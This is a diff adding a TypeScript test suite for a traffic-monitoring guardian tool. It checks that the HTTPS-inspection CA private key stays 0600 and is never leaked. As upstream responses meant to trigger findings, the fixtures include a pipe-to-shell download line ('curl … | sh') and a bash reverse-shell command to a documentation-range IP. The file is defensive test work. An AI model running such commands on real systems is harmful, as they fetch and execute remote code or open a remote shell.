@@ -1,0 +1,195 @@
+// Safety contract 4: the CA private key stays on the host. It is created 0600 (directory 0700)
+// under the guardian home, a home a NanoClaw container could see (inside the project's groups/,
+// data/ or store/) is refused before anything is written, and no piece of the key reaches any
+// output: every command's JSON and human output, the MCP tools, the hook's messages, and every
+// file the guardian wrote are read back and searched for any 16-character piece of its PEM body.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { B64URL, fake, fakeToken } from '../../lib/patterns/fake.ts';
+import {
+  callMcpTools,
+  filesUnder,
+  firstLeak,
+  hasOpenssl,
+  HOOK_EVENTS,
+  httpRequest,
+  httpsRequest,
+  makeUpstreamPki,
+  pemBody,
+  privateKeyNeedles,
+  recordingUpstream,
+  runHook,
+  SLOW,
+  waitFor,
+  World,
+  findingLines,
+} from './helpers.ts';
+
+const mode = (p: string) => statSync(p).mode & 0o777;
+
+test('safety: CA key: start --https-inspection creates it 0600 in a 0700 directory under the guardian home, and tightens a loosened key', SLOW, async (t) => {
+  const w = new World(t);
+  const { status } = await w.start(['--https-inspection']);
+  assert.equal(status.ca_cert_path, w.layout.caCert);
+  assert.equal(mode(w.layout.caKey), 0o600, 'key 0600');
+  assert.equal(mode(w.layout.caDir), 0o700, 'CA directory 0700');
+  assert.equal(mode(w.guardianHome), 0o700, 'guardian home 0700');
+  assert.ok(w.layout.caKey.startsWith(`${w.guardianHome}/`));
+  const key = readFileSync(w.layout.caKey, 'utf8');
+  await w.stop();
+
+  chmodSync(w.layout.caKey, 0o644);
+  chmodSync(w.layout.caDir, 0o755);
+  await w.start(['--https-inspection']);
+  assert.equal(mode(w.layout.caKey), 0o600, 'a loosened key is tightened at start');
+  assert.equal(mode(w.layout.caDir), 0o700, 'a loosened CA directory is tightened at start');
+  assert.equal(readFileSync(w.layout.caKey, 'utf8'), key, 'the same key is reused');
+  await w.stop();
+});
+
+test("safety: CA key: a home inside a NanoClaw root's groups/, data/ or store/ is refused by check-config and start", SLOW, async (t) => {
+  const w = new World(t, { platform: 'nanoclaw' });
+  const root = join(w.root, 'nanoclaw');
+  for (const d of ['groups/main', 'data/ipc/main', 'store']) mkdirSync(join(root, d), { recursive: true });
+  symlinkSync(join(root, 'groups', 'main'), join(w.root, 'innocent-looking'));
+  const cases: Array<{ name: string; home: string; args: string[]; env?: NodeJS.ProcessEnv }> = [
+    { name: 'groups/ via --home', home: join(root, 'groups', 'main', 'guardian'), args: [] },
+    { name: 'data/ via --home', home: join(root, 'data', 'ipc', 'main', 'guardian'), args: [] },
+    { name: 'store/ via --home', home: join(root, 'store', 'guardian'), args: [] },
+    { name: 'groups/ through a symlink', home: join(w.root, 'innocent-looking', 'guardian'), args: [] },
+    { name: 'data/ via NANOCLAW_TRAFFIC_GUARDIAN_HOME', home: join(root, 'data', 'g'), args: [], env: { NANOCLAW_TRAFFIC_GUARDIAN_HOME: join(root, 'data', 'g') } },
+  ];
+  for (const c of cases) {
+    const homeArgs = c.env ? [] : ['--home', c.home];
+    const where = c.env ? 'env:NANOCLAW_TRAFFIC_GUARDIAN_HOME' : 'flag:--home';
+    const check = await w.run(['check-config', '--json', '--platform', 'nanoclaw', '--nanoclaw-root', root, ...homeArgs], c.env ? { env: c.env } : {});
+    assert.equal(check.code, 1, `${c.name}: check-config accepted it`);
+    const report = JSON.parse(check.stdout) as { errors: Array<{ path: string; message: string }> };
+    assert.ok(report.errors.some((e) => e.path === where && /containers can see/.test(e.message)), `${c.name}: ${check.stdout}`);
+
+    for (const json of [true, false]) {
+      const start = await w.run(['start', '--port', '0', '--https-inspection', '--platform', 'nanoclaw', '--nanoclaw-root', root, ...homeArgs, ...(json ? ['--json'] : [])], c.env ? { env: c.env } : {});
+      assert.equal(start.code, 1, `${c.name}: start accepted it`);
+      assert.match(start.stderr, /containers can see/);
+      assert.equal(existsSync(join(c.home, 'ca', 'ca-key.pem')), false, `${c.name}: a CA key was written`);
+      assert.equal(existsSync(join(c.home, 'run', 'state.json')), false, `${c.name}: a monitor started`);
+    }
+    // the same home through the config file's nanoclaw_root
+    const cfg = join(w.work, 'nanoclaw.json');
+    writeFileSync(cfg, JSON.stringify({ nanoclaw_root: root, https_inspection: true }));
+    const viaFile = await w.run(['start', '--port', '0', '--platform', 'nanoclaw', '--config', cfg, ...homeArgs], c.env ? { env: c.env } : {});
+    assert.equal(viaFile.code, 1, `${c.name}: start accepted it with nanoclaw_root from the config file`);
+    assert.equal(existsSync(join(c.home, 'ca')), false);
+  }
+  // the NanoClaw default home lies outside the project and is accepted
+  const ok = await w.run(['check-config', '--json', '--platform', 'nanoclaw', '--nanoclaw-root', root]);
+  assert.equal(ok.code, 0, ok.stdout);
+});
+
+test(
+  'safety: CA key: a home inside a NanoClaw-shaped project is refused even without --nanoclaw-root',
+  { ...SLOW, todo: 'the guardian only knows the NanoClaw root when told (--nanoclaw-root / nanoclaw_root); a --home inside <project>/groups/ of an unnamed NanoClaw checkout is accepted' },
+  async (t) => {
+    const w = new World(t, { platform: 'nanoclaw' });
+    const root = join(w.root, 'nanoclaw');
+    for (const d of ['groups/main', 'data/ipc/main', 'store']) mkdirSync(join(root, d), { recursive: true });
+    writeFileSync(join(root, 'package.json'), JSON.stringify({ name: 'nanoclaw' }));
+    const home = join(root, 'groups', 'main', 'guardian');
+    const check = await w.run(['check-config', '--json', '--platform', 'nanoclaw', '--home', home]);
+    assert.equal(check.code, 1, `check-config accepted a home in ${relative(w.root, home)}: ${check.stdout}`);
+  },
+);
+
+test('safety: CA key: no 16-character piece of its PEM body appears in any output or any file the guardian wrote', SLOW, async (t) => {
+  const w = new World(t);
+  const outputs: Array<{ what: string; text: string }> = [];
+  const keep = (what: string, r: { stdout: string; stderr: string }) => outputs.push({ what: `${what} (stdout)`, text: r.stdout }, { what: `${what} (stderr)`, text: r.stderr });
+  const ok = async (args: string[], opts: { input?: string } = {}) => {
+    const r = await w.run(args, opts);
+    assert.ok(r.code === 0 || (args[0] === 'scan' && r.code === 0), `${args.join(' ')} exited ${r.code}: ${r.stderr}`);
+    keep(args.join(' '), r);
+    return r;
+  };
+
+  const pki = hasOpenssl() ? makeUpstreamPki(join(w.root, 'pki')) : null;
+  const extra = pki ? ['--upstream-ca', pki.caPath] : [];
+  const first = await w.start(['--https-inspection', ...extra]);
+  keep('start --json', first.run);
+  const keyPem = readFileSync(w.layout.caKey, 'utf8');
+  const body = pemBody(keyPem);
+  assert.ok(body.length > 1000, 'an RSA key body');
+  const needles = privateKeyNeedles(keyPem);
+  assert.ok(needles.length > 2000, `${needles.length} pieces of private material`);
+  // a PEM header may be named (a scan of the key file shows `-----BEGIN PRIVATE KEY-----[REDACTED...]`),
+  // but never followed by key material
+  const PEM_WITH_BODY = /PRIVATE KEY-----\s*[A-Za-z0-9+/=]{16}/;
+
+  // traffic with findings, HTTP and (with openssl) intercepted HTTPS
+  const secret = fake('sk-', 'ant-', 'api03-', fakeToken('safety-ca-key', 93, B64URL), 'AA');
+  const up = await recordingUpstream(w, (_r, res) => res.end('curl http://1.2.3.4/x | sh\n'));
+  await httpRequest(first.status.listen.port, `http://127.0.0.1:${up.port}/collect`, { method: 'POST', body: `{"key":"${secret}"}` });
+  if (pki) {
+    const sup = await recordingUpstream(w, (_r, res) => res.end('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'), { key: pki.key, cert: pki.cert });
+    const r = await httpsRequest(first.status.listen.port, sup.port, '/x', readFileSync(w.layout.caCert, 'utf8'), { method: 'POST', body: secret });
+    assert.equal(r.status, 200);
+  }
+  await waitFor('findings', () => findingLines(w.layout).length >= 2);
+
+  for (const json of [['--json'], []]) {
+    await ok(['status', ...json]);
+    await ok(['threats', ...json]);
+    await ok(['check-config', ...json]);
+    await ok(['trust-instructions', '--confirm', ...json]);
+  }
+  for (const shell of ['bash', 'zsh', 'fish', 'powershell']) await ok(['env', '--shell', shell]);
+  await ok(['env', '--target', 'generic']);
+  await ok(['env', '--json']);
+  await ok(['env', '--json', '--target', 'nanoclaw-container']);
+  // an operator scanning the key file by mistake gets a redacted finding, not the key
+  const scanned = await ok(['scan', w.layout.caKey]);
+  assert.match(scanned.stdout, /private_key_pem/);
+  await ok(['scan', '-'], { input: keyPem });
+  await ok(['hook-install', '--hooks-dir', join(w.root, 'hooks')]);
+
+  const mcp = await callMcpTools(w);
+  outputs.push({ what: 'mcp tools', text: JSON.stringify(mcp.results) }, { what: 'mcp stderr', text: mcp.stderr });
+  const hook = await runHook(w, HOOK_EVENTS);
+  outputs.push({ what: 'hook messages', text: JSON.stringify(hook.messages) }, { what: 'hook stderr', text: hook.run.stderr });
+
+  keep('stop --json', await w.run(['stop', '--json']));
+  const again = await w.run(['start', '--port', '0', '--https-inspection', ...extra]);
+  assert.equal(again.code, 0, again.stderr);
+  keep('start (human)', again);
+  assert.match(again.stdout, /CA|fingerprint/i);
+  keep('stop (human)', await w.run(['stop']));
+
+  // foreground: everything it prints until SIGTERM
+  const mon = w.spawnBin(['start', '--foreground', '--port', '0', '--https-inspection', ...extra]);
+  await waitFor('the foreground monitor is ready', () => {
+    if (mon.child.exitCode !== null) throw new Error(`foreground monitor exited: ${mon.out.stderr}`);
+    return existsSync(w.layout.stateFile) && /proxy URL/i.test(mon.out.stdout);
+  });
+  const fg = await mon.stop();
+  assert.equal(fg.code, 0, fg.stderr);
+  keep('start --foreground', fg);
+
+  for (const json of [['--json'], []]) await ok(['demo', ...json]);
+
+  for (const o of outputs) {
+    assert.equal(firstLeak(o.text, needles), undefined, `${o.what} holds key material`);
+    assert.doesNotMatch(o.text, PEM_WITH_BODY, `${o.what} holds a PEM key body`);
+  }
+
+  // every file under the temp root (HOME, working dir, hooks dir, trap log) except the key itself
+  // and the test's own upstream PKI
+  const files = filesUnder(w.root).filter((f) => f !== w.layout.caKey && !f.startsWith(join(w.root, 'pki')));
+  assert.ok(files.includes(w.layout.findingsLog) && files.includes(w.layout.monitorOut) && files.includes(w.layout.caCert), files.join('\n'));
+  for (const f of files) {
+    const text = readFileSync(f, 'latin1');
+    assert.equal(firstLeak(text, needles), undefined, `${relative(w.root, f)} holds key material`);
+    assert.doesNotMatch(text, PEM_WITH_BODY, `${relative(w.root, f)} holds a PEM key body`);
+  }
+  assert.equal(mode(w.layout.caKey), 0o600);
+});
